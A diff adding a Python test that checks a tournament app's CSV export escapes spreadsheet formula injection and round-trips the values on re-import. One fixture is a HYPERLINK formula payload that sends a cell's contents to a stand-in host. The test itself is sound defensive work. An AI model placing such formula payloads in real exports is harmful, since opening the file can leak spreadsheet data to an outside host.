@@ -164,3 +164,37 @@ def test_the_seating_legend_names_only_the_seats_in_use() -> None:
     assert "clockwise B, C.</p>" in three_seats  # 6 players: two tables of 3
     four_seats = seating_html(event([f"Gracz {i}" for i in range(7)]), EN)
     assert "clockwise B, C, D.</p>" in four_seats
+
+
+FORMULA_NAME = '=HYPERLINK("http://x/?"&A1;"Kliknij")'
+
+
+def test_no_csv_cell_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    c = Cli(tmp_path / "e.sqlite3")
+    c.ok("event", "create", "--preset", "school", "--name", "Szkoła")
+    c.ok("players", "add", FORMULA_NAME, "--club", "@SUM(1+1)", "--check-in")
+    for name in ("+Ala Lis", "-Ola Kot", "Jan Nowak"):
+        c.ok("players", "add", name, "--club", "SP 1", "--check-in")
+    play_rounds(c, random.Random(5), range(1))
+    for public in ((), ("--public",)):
+        out = tmp_path / f"out{len(public)}"
+        c.ok("export", "csv", str(out), *public)
+        for file in out.glob("*.csv"):
+            for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"))):
+                for cell in row:
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell != "-":
+                        assert cell.lstrip("+-").replace(",", "").isdigit(), (file.name, cell)
+        standings = (out / "standings.csv").read_text(encoding="utf-8-sig")
+        assert "'@SUM(1+1)" in standings and "'+Ala" in standings
+        assert any(cell.startswith("-") and cell[1:].isdigit()
+                   for row in csv.reader(io.StringIO(standings))
+                   for cell in row), "a negative number stays a number"  # fmt: skip
+    again = Cli(tmp_path / "again.sqlite3")
+    again.ok("event", "create", "--preset", "school", "--name", "Znowu")
+    again.ok("players", "import", str(tmp_path / "out0" / "players.csv"))
+    names = {p.name for p in again.competition().event.players.values()}
+    assert FORMULA_NAME in names and "+Ala Lis" in names
+    clubs = {p.club for p in again.competition().event.players.values()}
+    assert "@SUM(1+1)" in clubs
